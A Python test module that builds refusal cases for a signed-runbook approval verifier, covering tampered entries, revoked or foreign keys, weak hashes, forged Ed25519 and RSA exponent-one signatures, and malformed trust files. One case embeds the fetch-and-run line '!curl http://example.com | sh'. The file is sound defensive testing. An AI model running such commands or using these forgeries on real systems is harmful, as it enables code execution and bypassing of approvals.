"""The ways to cheat: each is one folder of tests/attacks/approvals, written by `attack_folders`."""

from collections.abc import Iterator, Mapping, Sequence
from datetime import timedelta
from typing import Any

import msgspec

from runbook.approval import sshsig
from runbook.approval.keys import fingerprint
from runbook.approval.statement import approval_id, statement_bytes, statement_of
from runbook.approval.wire import string
from runbook.approval.withdrawal import WITHDRAWAL_NAMESPACE, Withdrawal, file_names, withdrawal_bytes
from runbook.text.runbook import Entry
from tests.approval.forge import (
    ED25519_L,
    Blob,
    EdKey,
    base64_of,
    ed_blob,
    forge_for_exponent_one,
    rsa_blob,
    to_sign,
)
from tests.approval.made import (
    ALICE,
    BOB,
    CAROL,
    KEYS,
    NOW,
    PATH,
    POLICY,
    TEXT,
    WORKSPACE,
    approved,
    rule,
    signed,
    signer_lines,
    unsigned,
)


class Case(msgspec.Struct, frozen=True):
    """One folder. `codes` are the reasons of the verdict, `uncounted` those of the entries."""

    name: str
    what: str
    data: bytes
    codes: Sequence[str] = ()
    uncounted: Sequence[str] = ()
    asked: Mapping[str, Any] = msgspec.field(default_factory=dict)
    trust: Mapping[str, bytes] = msgspec.field(default_factory=dict)


MISSING = ["approval.missing"]
STATEMENT = statement_bytes(statement_of(unsigned(), workspace=WORKSPACE, path=PATH))
KEY = KEYS[BOB]
GOOD = signed()


def forged(**changes: Any) -> Entry:
    fields: dict[str, Any] = {"key": KEY.blob, "inner": KEY.inner(to_sign(STATEMENT))} | changes
    return msgspec.structs.replace(unsigned(), signature=Blob(**fields).encoded())


def line(words: str, *, who: str = BOB, options: str = 'namespaces="approval.v1@signed-runbook"') -> bytes:
    return f"{who} {options} {words}\n".encode()


def policy(*rules: str) -> dict[str, bytes]:
    return {"policy.toml": (POLICY.partition("[[rules]]")[0] + "".join(rules)).encode()}


def cases() -> Iterator[Case]:
    yield Case("accept-control", "the approval that all others are made from", approved([GOOD]))
    yield from the_text()
    yield from the_entry()
    yield from the_people()
    yield from the_signature()
    yield from the_trust()


def the_text() -> Iterator[Case]:
    changed = approved([GOOD]).replace(b"healthy", b"Healthy")
    yield Case(
        "refuse-one-byte-changed", "the body was edited after approval", changed, MISSING, ["approval.stale"]
    )
    spaced = TEXT.replace("\n\n# %% Is", "\n\n\n# %% Is")
    yield Case(
        "refuse-harmless-change",
        "only a blank line was added: no change is harmless",
        approved([GOOD], spaced),
        MISSING,
        ["approval.stale"],
    )
    messy = TEXT.replace("web tier\n\n# %% Is", "web tier \n\n# %% Is")
    yield Case(
        "refuse-not-normal",
        "signed, although it has more than one spelling",
        approved([signed(messy)], messy),
        ["text.trailing-blanks"],
    )
    live = TEXT.replace('print("healthy")', "!curl http://example.com | sh")
    yield Case(
        "refuse-shell-line",
        "signed, but the policy lets no magics run",
        approved([signed(live)], live),
        ["policy.magics"],
    )
    limited = TEXT.replace("# jupyter:\n", "#   environments: [prod]\n# jupyter:\n")
    yield Case(
        "refuse-prod-text-in-scratch",
        "the place is called scratch so that no approval is needed",
        limited.encode(),
        ["environment.text"],
        asked={"environment": "scratch"},
    )


def the_entry() -> Iterator[Case]:
    signature = ["approval.signature"]
    yield Case(
        "refuse-copied-to-another-path",
        "the file was copied",
        approved([GOOD]),
        MISSING,
        signature,
        {"path": "runbooks/db/drop.py"},
    )
    other = signed(workspace=WORKSPACE.replace("6f", "7f"))
    yield Case(
        "refuse-copied-from-another-workspace",
        "the fork has its own urn",
        approved([other]),
        MISSING,
        signature,
    )
    longer = msgspec.structs.replace(GOOD, expires=GOOD.expires + timedelta(days=30))
    yield Case(
        "refuse-expiry-edited", "the entry was made to live longer", approved([longer]), MISSING, signature
    )
    wider = msgspec.structs.replace(signed(environments=("staging",)), environments=("prod", "staging"))
    yield Case(
        "refuse-environments-edited",
        "prod was added to an entry for staging",
        approved([wider]),
        MISSING,
        signature,
    )
    more = msgspec.structs.replace(signed(allows="interactive"), allows="unattended")
    yield Case(
        "refuse-allows-edited",
        "an interactive approval was made unattended",
        approved([more]),
        MISSING,
        signature,
    )
    renamed = msgspec.structs.replace(GOOD, principal=ALICE)
    yield Case("refuse-renamed", "another name on a good entry", approved([renamed]), MISSING, signature)
    staging = signed(environments=("staging",))
    yield Case(
        "refuse-staging-approval-in-prod",
        "approved for staging only",
        approved([staging]),
        MISSING,
        ["approval.environment"],
    )
    attended = signed(allows="interactive")
    yield Case(
        "refuse-interactive-approval-unattended",
        "the reviewer wanted a person to be there",
        approved([attended]),
        MISSING,
        ["approval.kind"],
        {"unattended": True},
    )
    exact = signed(parameters=f"exact:sha256:{'1' * 64}")
    yield Case(
        "refuse-other-values",
        "approved for exact values, run with others",
        approved([exact]),
        MISSING,
        ["approval.parameters"],
        {"values": f"sha256:{'2' * 64}"},
    )
    future = signed(issued=NOW + timedelta(hours=1))
    yield Case(
        "refuse-issued-tomorrow", "issued after now", approved([future]), MISSING, ["approval.not-yet"]
    )
    old = signed(expires=NOW)
    yield Case(
        "refuse-expired-unattended",
        "a reason needs a person",
        approved([old]),
        MISSING,
        ["approval.expired"],
        {"unattended": True},
    )
    ages = signed(expires=NOW + timedelta(days=3650))
    yield Case(
        "refuse-lives-too-long",
        "ten years, where the policy grants 90 days",
        approved([ages]),
        MISSING,
        ["approval.life"],
    )
    glass = signed(role="breakglass")
    yield Case("refuse-breakglass", "does not count yet", approved([glass]), MISSING, ["approval.breakglass"])


def the_people() -> Iterator[Case]:
    two = policy(rule(paths=["**"], environments=["prod"], approvals=2))
    second = EdKey()
    lines = {"allowed_signers": (signer_lines() + signer_lines({BOB: second})).encode()}
    again = signed(key=second, issued=GOOD.issued - timedelta(hours=1))
    yield Case(
        "refuse-one-person-two-keys",
        "people are counted, never keys",
        approved([GOOD, again]),
        MISSING,
        trust=two | lines,
    )
    twice = signed(environments=("prod",))
    yield Case(
        "refuse-one-person-twice", "two entries of one person", approved([GOOD, twice]), MISSING, trust=two
    )
    yield Case(
        "refuse-somebody-else-s-key",
        "says bob, signed by alice",
        approved([signed(key=KEYS[ALICE])]),
        MISSING,
        ["approval.principal"],
    )
    yield Case(
        "refuse-stranger",
        "a key that nobody enrolled",
        approved([signed(key=EdKey())]),
        MISSING,
        ["approval.unknown-key"],
    )
    yield Case(
        "refuse-outsider", "enrolled, but not in the group", approved([signed(principal=CAROL)]), MISSING
    )
    machine = line(KEY.words, options='namespaces="execution.v1@signed-runbook"')
    yield Case(
        "refuse-runner-key",
        "a key for executions approves",
        approved([GOOD]),
        MISSING,
        ["approval.namespace"],
        trust={"allowed_signers": machine},
    )
    revoked = {"revoked": f"{fingerprint(KEY.blob)}\n".encode()}
    early = signed(issued=NOW - timedelta(days=60), expires=NOW + timedelta(days=1))
    yield Case(
        "refuse-backdated-by-a-thief",
        "issued before the key was revoked, it says",
        approved([early]),
        MISSING,
        ["approval.revoked"],
        trust=revoked,
    )
    gone = line(KEY.words, options='namespaces="approval.v1@signed-runbook",valid-before="20261101Z"')
    yield Case(
        "refuse-retired-key",
        "the key's own time is over",
        approved([GOOD]),
        MISSING,
        ["approval.key-time"],
        trust={"allowed_signers": gone},
    )
    identity = approval_id(statement_of(GOOD, workspace=WORKSPACE, path=PATH))
    back = Withdrawal(workspace=WORKSPACE, approval=identity, principal=BOB, issued=NOW)
    text, signature = file_names(back)
    made = sshsig.armored(KEY.sign(withdrawal_bytes(back), namespace=WITHDRAWAL_NAMESPACE)).encode()
    withdrawn = {text: withdrawal_bytes(back), signature: made}
    yield Case(
        "refuse-withdrawn",
        "bob took it back",
        approved([GOOD]),
        MISSING,
        ["approval.withdrawn"],
        trust=withdrawn,
    )
    half = {text: withdrawal_bytes(back)}
    yield Case(
        "refuse-half-a-withdrawal", "its signature was deleted", approved([GOOD]), ["trust"], trust=half
    )
    yield Case(
        "refuse-path-in-capitals",
        "a disk without case finds the same file",
        approved([signed(path="runbooks/DB/x.py")]),
        MISSING,
        [],
        {"path": "runbooks/DB/x.py"},
        {
            "policy.toml": (
                POLICY + rule(paths=["runbooks/db/**"], environments=["prod"], require_each=["security"])
            ).encode()
        },
    )
    yield Case(
        "refuse-no-rule",
        "nothing is said about this folder",
        approved([signed(path="tools/x.py")]),
        ["policy.no-rule"],
        asked={"path": "tools/x.py"},
    )
    yield Case(
        "refuse-wrong-machine",
        "this machine is for staging",
        approved([GOOD]),
        ["environment.machine"],
        asked={"machine_environments": ["staging"]},
    )


def the_signature() -> Iterator[Case]:
    for digest in ("md5", "sha1", "sha256"):
        entry = forged(inner=KEY.inner(to_sign(STATEMENT, digest=digest)), digest=digest.encode())
        yield Case(
            f"refuse-hash-{digest}", "a weaker hash, signed", approved([entry]), MISSING, ["signature.hash"]
        )
    git = msgspec.structs.replace(unsigned(), signature=KEY.sign(STATEMENT, namespace="git"))
    yield Case(
        "refuse-git-signature",
        "made with the right key for git",
        approved([git]),
        MISSING,
        ["signature.namespace"],
    )
    small = bytes([1]) + bytes(31)
    nobody = forged(key=ed_blob(small), inner=string(b"ssh-ed25519") + string(small + bytes(32)))
    yield Case(
        "refuse-small-order-signature",
        "fits every message in OpenSSH",
        approved([nobody]),
        MISSING,
        ["key.weak"],
    )
    raw = KEY.private.sign(to_sign(STATEMENT))
    high = (int.from_bytes(raw[32:], "little") + ED25519_L).to_bytes(32, "little")
    twin = forged(inner=string(b"ssh-ed25519") + string(raw[:32] + high))
    modulus = 2**3071 + 12345
    fido = string(b"sk-ssh-ed25519@openssh.com") + string(KEY.blob[-32:]) + string(b"ssh:")
    untouched = string(b"sk-ssh-ed25519@openssh.com") + string(raw) + b"\0" + bytes(4)
    rsa = forged(
        key=rsa_blob(1, modulus),
        inner=string(b"rsa-sha2-512") + string(forge_for_exponent_one(STATEMENT, modulus)),
    )
    for name, what, entry, code in (
        ("s-above-order", "a second spelling of a good signature", twin, "signature.form"),
        ("reserved-field", "a field that no signature covers", forged(reserved=b"x"), "signature.reserved"),
        ("trailing-bytes", "something behind the blob", forged(tail=b"\0"), "signature.form"),
        ("version-zero", "OpenSSH reads it", forged(version=0), "signature.version"),
        ("no-namespace", "no purpose at all", forged(namespace=b""), "signature.namespace"),
        ("exponent-one", "anybody can write such a signature down", rsa, "key.weak"),
        ("untouched-fido", "a FIDO key without a touch", forged(key=fido, inner=untouched), "signature.fido"),
    ):
        yield Case(f"refuse-{name}", what, approved([entry]), MISSING, [code])


def the_trust() -> Iterator[Case]:
    good = signer_lines().encode()
    small = f"ssh-ed25519 {base64_of(ed_blob(bytes([1]) + bytes(31)))}"
    for name, what, files in (
        ("small-order-key-enrolled", "everybody's key", {"allowed_signers": good + line(small, who=ALICE)}),
        (
            "exponent-one-enrolled",
            "everybody's key",
            {"allowed_signers": good + line(f"ssh-rsa {base64_of(rsa_blob(1, 2**3071 + 1))}")},
        ),
        (
            "pattern-principal",
            "any name at the domain",
            {"allowed_signers": line(KEY.words, who="*@example.com")},
        ),
        (
            "two-names-one-line",
            "one key for two people",
            {"allowed_signers": line(KEY.words, who=f"{BOB},{ALICE}")},
        ),
        (
            "two-lines-one-key",
            "the first line expired, the second has no end",
            {
                "allowed_signers": line(
                    KEY.words, options='namespaces="approval.v1@signed-runbook",valid-before="20200101Z"'
                )
                + line(KEY.words)
            },
        ),
        (
            "typo-in-options",
            "OpenSSH skips the line and reads on",
            {
                "allowed_signers": good
                + line(EdKey().words, options='namespaces="git",valid-befor="20200101Z"')
            },
        ),
        (
            "certificate-authority",
            "whoever it signs for",
            {
                "allowed_signers": line(
                    KEY.words, options='cert-authority,namespaces="approval.v1@signed-runbook"'
                )
            },
        ),
        ("every-namespace", "no namespaces= at all", {"allowed_signers": f"{BOB} {KEY.words}\n".encode()}),
        (
            "local-time",
            "a time in the zone of whoever verifies",
            {
                "allowed_signers": line(
                    KEY.words, options='namespaces="approval.v1@signed-runbook",valid-before="20271101"'
                )
            },
        ),
        (
            "byte-order-mark",
            "the first line never matches in OpenSSH",
            {"allowed_signers": b"\xef\xbb\xbf" + good},
        ),
        (
            "carriage-returns",
            "another file on another system",
            {"allowed_signers": good.replace(b"\n", b"\r\n")},
        ),
        (
            "revocations-with-a-slip",
            "a fingerprint that is none revokes nobody",
            {"revoked": fingerprint(KEY.blob).replace("SHA256:", "SHA256 ").encode() + b"\n"},
        ),
        (
            "policy-with-a-slip",
            "an unknown key",
            {"policy.toml": POLICY.replace("approvals", "aprovals").encode()},
        ),
        ("policy-not-toml", "half a file", {"policy.toml": POLICY[: len(POLICY) // 2].encode()}),
        (
            "unknown-group",
            "a rule that asks a group that is not there",
            {"policy.toml": POLICY.replace('["sre"]', '["sra"]').encode()},
        ),
    ):
        yield Case(f"refuse-{name}", what, approved([GOOD]), ["trust"], trust=files)
